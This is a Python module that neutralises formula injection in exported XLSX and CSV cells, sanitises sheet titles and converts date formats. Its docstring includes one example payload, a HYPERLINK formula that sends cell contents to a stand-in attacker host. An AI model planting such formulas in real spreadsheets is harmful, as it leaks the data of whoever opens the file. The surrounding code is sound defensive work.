"""Cells of every spreadsheet the product writes (XLSX workbooks and CSV files), safe to open.

Vocabulary:
    formula-like text   text a spreadsheet program would run as a formula when the file is opened: it begins
                        with ``=``, ``+``, ``-`` or ``@`` (or their full-width forms, which some Excel input
                        modes accept), or with a tab or carriage return, possibly after spaces. A player named
                        ``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` is one.
    neutralised text    formula-like text with an apostrophe in front, so it is shown as the text it is and
                        never run (the OWASP advice for CSV injection; it works the same in a workbook).
    unstorable character  a control character an XLSX file cannot hold (openpyxl refuses the whole workbook);
                        it is dropped.

    date format         the number format a date cell is shown in, the active language's short date written
                        as Excel writes formats (German ``DD.MM.YYYY``); openpyxl's own is ISO (``date_format_code``).
    sheet title         a workbook sheet's name as Excel takes it: none of ``[]:*?/\\``, at most 31 characters,
                        unique in its workbook without regard to case (``sheet_title``).

``spreadsheet_cell`` is the one place this is decided: every writer passes every cell through it. Numbers,
dates and empty cells are left as they are, so a negative total stays a number.
"""

import re

from django.utils.formats import get_format

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_TITLE_UNSAFE = str.maketrans({c: " " for c in "[]:*?/\\"})
_UNSTORABLE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")  # XML 1.0 allows tab, newline and CR only


def is_formula_like(text: str) -> bool:
    # Spaces in front do not stop every program from reading a formula, so they are looked through.
    return text.lstrip(" ").startswith(FORMULA_STARTS)


def spreadsheet_cell(value):
    """``value`` as it may be written into a spreadsheet cell: text neutralised, anything else unchanged."""
    if not isinstance(value, str):
        return value
    text = _UNSTORABLE.sub("", value)
    return "'" + text if is_formula_like(text) else text


def spreadsheet_row(values) -> list:
    return [spreadsheet_cell(value) for value in values]


def sheet_title(name: str, taken: set[str], *, blank: str) -> str:
    """``name`` as a sheet title (``blank`` when nothing of it is left), numbered "(2)", "(3)" ... past the titles
    ``taken`` (lower case); the title chosen is added to them."""
    base = name.translate(_TITLE_UNSAFE).strip()[:31] or blank
    title, number = base, 2
    while title.lower() in taken:
        title, number = f"{base[:27]} ({number})", number + 1
    taken.add(title.lower())
    return title


_EXCEL_DATE_PARTS = {"d": "DD", "j": "D", "m": "MM", "n": "M", "Y": "YYYY", "y": "YY"}


def date_format_code() -> str:
    """The active language's short date (Django's ``SHORT_DATE_FORMAT``) as an Excel number format."""
    return "".join(_EXCEL_DATE_PARTS.get(char, char) for char in get_format("SHORT_DATE_FORMAT"))
